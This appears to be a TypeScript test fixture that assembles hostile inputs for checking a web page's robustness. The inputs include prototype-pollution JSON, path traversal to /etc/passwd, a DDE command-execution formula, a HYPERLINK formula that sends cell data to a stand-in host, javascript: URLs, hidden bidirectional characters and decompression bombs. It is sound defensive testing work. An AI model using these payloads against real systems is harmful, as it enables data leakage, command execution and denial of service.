import { deflateRawSync } from 'node:zlib';
import { scripts } from './scripts';

/** A text that is meant to do harm, and what kind of harm. */
export interface Hostile {
	readonly name: string;
	readonly text: string;
}

const named = (name: string, texts: readonly string[]): readonly Hostile[] =>
	texts.map((text, index) => ({ name: `${name} ${index}`, text }));
const times = (count: number, text: string) => text.repeat(count);
const at = (...codes: readonly number[]) => String.fromCodePoint(...codes);
const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, step) => from + step);

/** Turn writing round, join or part letters, or fill a place with nothing that can be seen. */
const UNSEEN = [
	...range(0x202a, 0x202e),
	...range(0x2066, 0x2069),
	...range(0x200b, 0x200f),
	...[0x061c, 0x2060, 0xfeff, 0x00ad, 0x034f, 0x180e, 0x115f, 0x3164, 0xfe0f, 0xe0001, 0xe0041, 0xfffe]
];

const unseen = UNSEEN.flatMap((code) => [
	`Ada${at(code)}nod.exe Lovelace`,
	`${times(200, at(code))}The bridge was closed on Monday.`
]);

const surrogates = [0xd800, 0xdbff, 0xdc00, 0xdfff].flatMap((code) => {
	const half = String.fromCharCode(code);
	return [`${half}The mayor`, `The ${half} mayor`, `The mayor${half}`, `${half}${half}"`];
});

const SPOILT_BYTES = [
	[0xc0, 0xaf],
	[0xe0, 0x80, 0xaf],
	[0xed, 0xa0, 0x80],
	[0xf5, 0x80, 0x80, 0x80],
	[0xf0, 0x9f, 0x98],
	[0xff, 0xfe, 0x41, 0x00],
	[0x80, 0x81],
	[0xfe, 0xff]
];
/** As a page reads them that takes each byte for a letter; `brokenBytes` are the bytes themselves. */
const mangled = SPOILT_BYTES.map((bytes) => `The mayor ${String.fromCharCode(...bytes)} said.`);
export const brokenBytes: readonly Uint8Array[] = SPOILT_BYTES.map((bytes) =>
	Uint8Array.from([...Buffer.from('{"format":"'), ...bytes, ...Buffer.from('"}')])
);

const PROTOTYPES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then'];
const prototypes = PROTOTYPES.flatMap((key) => [
	key,
	`{"${key}":{"isAdmin":true,"polluted":1}}`,
	`{"format":"five-ws-backup","version":1,"savedAt":1,"records":[{"key":["${key}"],"value":{"${key}":1}}]}`,
	`[["${key}",null]]`
]);

const numbers = [
	...'1e309 -1e309 1e-400 -0 NaN Infinity 9007199254740993 0x10 0b1 1_000 1.000.000,0 ½ ² ١٢٣ 1e1000000 --1 +-1 .. 1/0'.split(
		' '
	),
	times(400, '9'),
	`0.${times(400, '3')}`,
	`${times(100, '1,000,')}000 people`,
	'In 99999999 the 0th of the -1st of 12 people rose by 1e309 per cent.'
];

const deep = ['[', '{"a":', '(', '<b>', '<dl><dt>', '"', '“', '&lt;'].map((opening) =>
	times(30_000, opening)
);

const long = [
	times(100_000, 'A'),
	times(20_000, 'A '),
	`e${times(20_000, '\u0301')}`,
	times(3000, '👩‍👩‍👧‍👦'),
	// More lines than these a field of the browser’s own does not take.
	times(3000, '\n'),
	times(100_000, ' '),
	times(30_000, '. '),
	times(10_000, 'Mr. '),
	times(10_000, 'A.B.'),
	times(20_000, '"'),
	`${times(50_000, 'a')}!`,
	`${times(50_000, '\t')}x`,
	times(5000, 'No. 1, '),
	times(5000, '1,0'),
	times(2000, 'said that he said that ')
];

const FORMULAS = [
	'=1+1',
	'=HYPERLINK("https://other.example/"&A1,"open")',
	"=cmd|' /C calc'!A0",
	'@SUM(A1:A9)',
	'+1+1',
	'-2+3'
];
const formulas = FORMULAS.flatMap((formula) => [
	formula,
	`\t${formula}`,
	`\r${formula}`,
	`"${formula}`,
	`;${formula}`
]);

const controls = [...range(0, 31), 0x7f, 0x85, 0x2028, 0x2029].map(
	(code) => `The${at(code)}mayor${at(code)}spoke.`
);

const paths = [
	'../../../../etc/passwd',
	'..\\..\\windows\\win.ini',
	'file:///etc/passwd',
	'C:\\CON',
	'a/b?c#d',
	'%2e%2e%2f%00',
	'%s%s%s%n',
	'{0}{1}{{2}}',
	'https://user:word@other.example/',
	'javascript:hostileRan("address")',
	'data:text/html,<script>hostileRan("data")</script>',
	'//other.example/x',
	'blob:null/x'
];

const writing = [
	'ﷺ',
	'Ａｄａ',
	'ﬁﬂ',
	'Ω≈ç√∫',
	'田中さん',
	'שלום',
	'مرحبا',
	'ﬀ',
	'İstanbul ıI',
	'ẞß',
	'A\u030a',
	'\u1e9b\u0323'
];

/** Small on the way, and large when they are unpacked: as the payload of a link. */
const bombs = [1, 20].map((megabytes) => {
	const packed = deflateRawSync(Buffer.alloc(megabytes * 1_000_000, '['));
	return `1${Buffer.concat([Buffer.from([0x11, 0, 0, 0, 0]), packed]).toString('base64url')}`;
});

/** Texts of our own making that a page has to survive. `hostileRan` is what the scripts among them call. */
export const corpus: readonly Hostile[] = [
	...named('script', scripts),
	...named('unseen', unseen),
	...named('surrogate', surrogates),
	...named('mangled', mangled),
	...named('prototype', prototypes),
	...named('number', numbers),
	...named('deep', deep),
	...named('long', long),
	...named('formula', formulas),
	...named('control', controls),
	...named('path', paths),
	...named('writing', writing),
	...named('bomb', bombs)
];
